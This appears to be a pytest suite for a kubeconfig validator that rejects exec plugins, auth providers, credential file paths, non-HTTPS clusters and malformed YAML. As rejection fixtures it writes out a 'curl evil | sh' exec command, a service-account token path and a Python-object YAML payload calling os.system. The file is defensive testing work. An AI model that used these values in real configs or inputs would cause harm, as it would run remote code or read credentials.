"""`validate_user_kubeconfig`: kubeconfigs from API input may carry only inline credentials."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from controlplane.service.cloud_ports import MAX_KUBECONFIG_BYTES, UnsafeKubeconfig, validate_user_kubeconfig


def _kubeconfig(user: dict[str, Any], cluster: dict[str, Any] | None = None) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [
                {
                    "name": "onprem",
                    "cluster": cluster or {"server": "https://10.0.0.1:6443", "certificate-authority-data": "LS0tLS1C"},
                }
            ],
            "contexts": [{"name": "onprem", "context": {"cluster": "onprem", "user": "fleet"}}],
            "current-context": "onprem",
            "users": [{"name": "fleet", "user": user}],
        }
    )


def test_inline_token_and_client_certificate_are_accepted() -> None:
    document = validate_user_kubeconfig(_kubeconfig({"token": "eyJhbGciOiJSUzI1NiJ9.payload.sig"}))
    assert document["users"][0]["user"]["token"].startswith("eyJ")
    document = validate_user_kubeconfig(
        _kubeconfig({"client-certificate-data": "LS0tLS1C", "client-key-data": "LS0tLS1C"})
    )
    assert document["clusters"][0]["cluster"]["server"] == "https://10.0.0.1:6443"


@pytest.mark.parametrize(
    ("user", "field"),
    [
        ({"exec": {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": "aws"}}, "exec"),
        ({"exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}}, "exec"),
        ({"auth-provider": {"name": "gcp", "config": {"cmd-path": "/usr/bin/gcloud"}}}, "auth-provider"),
        ({"auth-provider": {"name": "oidc", "config": {"id-token": "x"}}}, "auth-provider"),
        ({"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}, "tokenFile"),
        ({"client-certificate": "/etc/gpufleet/tls.crt", "client-key-data": "LS0t"}, "client-certificate"),
        ({"client-key": "/etc/gpufleet/tls.key"}, "client-key"),
        ({"username": "admin", "password": "hunter2"}, "username"),
    ],
)
def test_users_that_run_programs_or_read_files_are_rejected(user: dict[str, Any], field: str) -> None:
    with pytest.raises(UnsafeKubeconfig, match=f"uses '{field}'"):
        validate_user_kubeconfig(_kubeconfig(user))


def test_any_offending_user_rejects_the_whole_file() -> None:
    document = yaml.safe_load(_kubeconfig({"token": "fine"}))
    document["users"].append({"name": "sneaky", "user": {"exec": {"command": "id"}}})
    with pytest.raises(UnsafeKubeconfig, match="'sneaky' uses 'exec'"):
        validate_user_kubeconfig(yaml.safe_dump(document))


@pytest.mark.parametrize(
    ("cluster", "reason"),
    [
        ({"server": "http://10.0.0.1:8080"}, "https://"),
        ({"certificate-authority-data": "LS0t"}, "https://"),
        ({"server": "https://10.0.0.1:6443", "certificate-authority": "/etc/ssl/ca.pem"}, "from a file"),
    ],
)
def test_clusters_must_be_https_with_inline_ca(cluster: dict[str, Any], reason: str) -> None:
    with pytest.raises(UnsafeKubeconfig, match=reason):
        validate_user_kubeconfig(_kubeconfig({"token": "t"}, cluster))


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("clusters: [", "not valid YAML"),
        ("- just\n- a list\n", "mapping of kind Config"),
        ("kind: Pod\nclusters: []\n", "mapping of kind Config"),
        ("kind: Config\nusers: {}\nclusters: []\n", "must be lists"),
        ("kind: Config\nusers: []\nclusters: []\n", "names no cluster"),
        ("kind: Config\nclusters: [plain-string]\n", "must be mappings"),
        ("kind: Config\nclusters:\n- name: c\n  cluster: [1]\n", "must be a mapping"),
        ("!!python/object/apply:os.system ['id']", "not valid YAML"),
    ],
)
def test_malformed_documents_are_rejected(text: str, reason: str) -> None:
    with pytest.raises(UnsafeKubeconfig, match=reason):
        validate_user_kubeconfig(text)


def test_oversized_input_is_rejected_before_parsing() -> None:
    padding = "# " + "x" * MAX_KUBECONFIG_BYTES + "\n"
    with pytest.raises(UnsafeKubeconfig, match="larger than"):
        validate_user_kubeconfig(padding + _kubeconfig({"token": "t"}))
